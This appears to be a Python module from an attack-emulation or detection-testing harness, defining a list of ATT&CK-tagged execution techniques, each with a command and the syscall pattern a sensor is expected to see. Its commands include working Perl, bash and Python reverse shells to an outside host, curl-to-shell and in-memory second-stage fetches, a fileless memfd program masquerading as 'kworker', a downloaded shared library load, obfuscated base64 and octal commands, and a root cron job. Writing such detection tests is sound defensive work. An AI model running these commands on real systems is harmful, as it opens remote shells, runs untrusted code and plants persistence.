"""Running what was not meant to run: shells, interpreters, stages from the web, nothing that is a file."""

from attacks.attack import Attack as A
from attacks.places import CONNECT, SOCKETS, WEB
from node import OUTSIDE

ATTACKS = [
    A("T1059.004", "a shell looks who it is", "id", ("exec", r"/id$")),
    A("T1059.006", "a line of Python", "python3 -c 'import os; print(os.getuid())'", ("exec", r"/python3")),
    A("T1059", "a line of Perl", "perl -e 'print getppid'", ("exec", r"/perl$")),
    A(
        "T1059.004",
        "a reverse shell by Perl",
        f'perl {SOCKETS} \'{CONNECT % 4444}open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec "/bin/sh"\'',
        ("exec", r"/(dash|sh)$"),
    ),
    A(
        "T1059.004",
        "a reverse shell by bash and /dev/tcp",
        f"bash -c 'exec 5<>/dev/tcp/{OUTSIDE}/4445; sh <&5 >&5'",
        ("connect", r":4445$"),
    ),
    A(
        "T1059.006",
        "a reverse shell by Python on a terminal of its own",
        'python3 -c \'import socket,pty,os; s=socket.create_connection(("%s",9001)); p,f=pty.fork();\n'
        'p or os.execv("/bin/sh",["sh","-c","true"]); s.sendall(b"x")\'' % OUTSIDE,
        ("connect", r":9001$"),
    ),
    A("T1140", "commands decoded from base64", "echo aWQgLXU= | base64 -d | sh", ("exec", r"/base64$")),
    A("T1027.010", "a command built from octal numbers", "$(printf '\\156\\160\\162\\157\\143')", ("exec", r"/nproc$")),
    A("T1104", "a second stage from the web into a shell", f"curl -s {WEB}/stage.sh | sh", ("exec", r"/curl$")),
    A(
        "T1620",
        "a second stage from the web into Python's memory",
        f"python3 -c 'import urllib.request as u; exec(u.urlopen(\"{WEB}/stage.py\").read())'",
        ("connect", rf"{OUTSIDE}:8080$"),
    ),
    A(
        "T1620",
        "a program that never was a file",
        'perl -e \'$n="job";$f=syscall(319,$n,1);open(O,">&=",$f);open(I,"<","/bin/true");binmode O;'
        'print O $_ while <I>;close I;O->flush;exec {"/proc/self/fd/$f"} "kworker"\'',
        ("exec", r"memfd:"),
    ),
    A(
        "T1204.005",
        "a library that came along is loaded by Python",
        f"curl -s -o /tmp/lib.so {WEB}/lib.so && python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/lib.so\")'",
        ("open", r"^/tmp/lib\.so$"),
    ),
    A(
        "T1053.003",
        "a job for cron",
        "mkdir -p /etc/cron.d && echo '* * * * * root id' >/etc/cron.d/sync",
        ("open", r"^/etc/cron\.d/"),
        root=True,
    ),
]
